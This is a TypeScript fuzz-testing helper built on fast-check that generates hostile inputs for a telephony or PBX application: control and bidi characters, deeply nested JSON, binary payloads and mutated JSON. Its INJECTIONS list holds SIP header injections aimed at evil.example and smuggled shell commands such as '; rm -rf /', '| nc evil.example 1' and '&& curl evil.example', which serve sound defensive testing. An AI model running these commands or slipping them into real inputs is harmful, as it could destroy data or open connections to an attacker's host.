// Shared fuzz generators: hostile text (controls, bidi marks, CR/LF and SIP header injection), binary and deeply
// nested payloads, and mutations of valid JSON values and texts.
import fc from 'fast-check';

/** Characters no identifier, number or name should carry: C0/C1 controls, DEL, bidi controls, separators, BOM. */
export const HOSTILE_CHARACTERS = [
  '\u0000',
  '\u0007',
  '\b',
  '\t',
  '\n',
  '\u000b',
  '\f',
  '\r',
  '\u001b',
  '\u007f',
  '\u0085',
  '\u009b',
  '\u061c',
  '\u200b',
  '\u200e',
  '\u200f',
  '\u202a',
  '\u202b',
  '\u202c',
  '\u202d',
  '\u202e',
  '\u2028',
  '\u2029',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\ufeff',
];

/** Pieces that try to break out of a dial string into SIP headers, URIs, shells or log lines. */
export const INJECTIONS = [
  '\r\nVia: SIP/2.0/UDP evil.example;branch=z9hG4bK1',
  '\r\n\r\nINVITE sip:0900123@evil.example SIP/2.0',
  '\nContact: <sip:attacker@evil.example>',
  '@evil.example',
  ';transport=tcp',
  ';user=phone?X-Header=1',
  '<sip:200@evil.example>',
  'sip:200@evil.example',
  '%0d%0aVia:%20x',
  '$(reboot)',
  '`id`',
  '; rm -rf /',
  '| nc evil.example 1',
  '&& curl evil.example',
  '\u202e0090',
  '\u0000',
  '"},"number":"0900',
];

export const hostileCharacter = fc.constantFrom(...HOSTILE_CHARACTERS);
export const injection = fc.constantFrom(...INJECTIONS);

/** `core` with 1 to 3 hostile pieces (characters or injections) put in at random places. */
export function withHostilePieces(core: string): fc.Arbitrary<string> {
  return fc
    .array(fc.tuple(fc.nat(), fc.oneof(hostileCharacter, injection)), { minLength: 1, maxLength: 3 })
    .map((pieces) => {
      let text = core;
      for (const [at, piece] of pieces) {
        const index = at % (text.length + 1);
        text = text.slice(0, index) + piece + text.slice(index);
      }
      return text;
    });
}

/** A hostile string around a plausible core: a number, a profile name, or anything. */
export const hostileString: fc.Arbitrary<string> = fc
  .oneof(fc.constantFrom('200', '+4930123456', 'Away', 'Available', ''), fc.string({ maxLength: 20 }))
  .chain(withHostilePieces);

/** JSON text nested `depth` levels deep, as arrays or objects. */
export function deepJson(depth: number, kind: 'array' | 'object'): string {
  return kind === 'array'
    ? `${'['.repeat(depth)}${']'.repeat(depth)}`
    : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
}

export const deeplyNested: fc.Arbitrary<string> = fc
  .tuple(fc.integer({ min: 50, max: 20_000 }), fc.constantFrom('array' as const, 'object' as const))
  .map(([depth, kind]) => deepJson(depth, kind));

/** Bytes with at least one C0 control in them (so no byte sequence can be valid text by chance). */
export const binaryPayload: fc.Arbitrary<Buffer> = fc
  .tuple(fc.uint8Array({ maxLength: 200 }), fc.nat(), fc.integer({ min: 0, max: 8 }))
  .map(([bytes, at, control]) => {
    const out = Buffer.from(bytes);
    const index = out.length === 0 ? 0 : at % (out.length + 1);
    return Buffer.concat([out.subarray(0, index), Buffer.from([control]), out.subarray(index)]);
  });

type Json = null | boolean | number | string | Json[] | { [key: string]: Json };

/** A JSON value of another JSON type than `value` (null excluded): a wrong type for that field. */
export function otherType(value: unknown): fc.Arbitrary<Json> {
  const kinds: fc.Arbitrary<Json>[] = [];
  if (typeof value !== 'boolean') kinds.push(fc.boolean());
  if (typeof value !== 'number')
    kinds.push(fc.oneof(fc.integer(), fc.double({ noNaN: true, noDefaultInfinity: true })));
  if (typeof value !== 'string') kinds.push(fc.string({ maxLength: 10 }));
  if (!Array.isArray(value))
    kinds.push(fc.array(fc.jsonValue({ maxDepth: 1 }) as fc.Arbitrary<Json>, { maxLength: 3 }));
  if (!value || typeof value !== 'object' || Array.isArray(value))
    kinds.push(
      fc.dictionary(fc.string({ maxLength: 5 }), fc.jsonValue({ maxDepth: 1 }) as fc.Arbitrary<Json>, {
        maxKeys: 3,
      }),
    );
  return fc.oneof(...kinds);
}

/** Strings a date-time, duration or number field might be sent by a broken PBX. */
export const oddStrings: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(
    '',
    ' ',
    'null',
    'NaN',
    'Infinity',
    '-1',
    '0',
    'yesterday',
    '2026-13-45T99:99:99Z',
    '2026-03-04',
  ),
  fc.constantFrom('P', 'PT', 'P-1D', 'PT1.5.5S', 'P1Y2M', 'PT99999999999999999999H'),
  fc.string({ unit: 'grapheme-ascii', maxLength: 8 }).map((digits) => `P${digits}DT${digits}H`),
  fc.integer({ min: 300, max: 400 }).map((n) => `P${'9'.repeat(n)}D`),
  fc.string({ unit: 'binary', maxLength: 30 }),
);

/** A mutation of a JSON value: one field replaced by a wrong type, null, an odd string or random JSON; deleted; or
 * the whole value replaced. Works on objects (a random key) and passes other values to a random replacement. */
export function mutatedJson(value: unknown): fc.Arbitrary<unknown> {
  const anything = fc.jsonValue({ maxDepth: 3 });
  if (!value || typeof value !== 'object' || Array.isArray(value)) return anything;
  const keys = Object.keys(value);
  if (keys.length === 0) return anything;
  const record = value as Record<string, unknown>;
  return fc.constantFrom(...keys).chain((key) =>
    fc.oneof(
      { weight: 4, arbitrary: otherType(record[key]).map((v) => ({ ...record, [key]: v })) },
      { weight: 2, arbitrary: oddStrings.map((v) => ({ ...record, [key]: v })) },
      { weight: 1, arbitrary: fc.constant({ ...record, [key]: null }) },
      {
        weight: 1,
        arbitrary: fc.constant(Object.fromEntries(Object.entries(record).filter(([k]) => k !== key))),
      },
      {
        weight: 1,
        arbitrary:
          record[key] && typeof record[key] === 'object' && !Array.isArray(record[key])
            ? mutatedJson(record[key]).map((v) => ({ ...record, [key]: v }))
            : anything.map((v) => ({ ...record, [key]: v })),
      },
      { weight: 1, arbitrary: anything },
    ),
  );
}

/** A JSON text cut short, with a byte changed, or with junk put in: what a broken proxy or PBX sends. */
export function mutatedText(text: string): fc.Arbitrary<string> {
  return fc.oneof(
    fc.nat({ max: Math.max(0, text.length - 1) }).map((at) => text.slice(0, at)),
    fc
      .tuple(fc.nat({ max: text.length }), fc.string({ unit: 'binary', minLength: 1, maxLength: 4 }))
      .map(([at, junk]) => text.slice(0, at) + junk + text.slice(at + 1)),
    fc
      .tuple(fc.nat({ max: text.length }), fc.constantFrom('<html>', '\u0000', '}', ']', ',', '"', 'NaN'))
      .map(([at, junk]) => text.slice(0, at) + junk + text.slice(at)),
  );
}
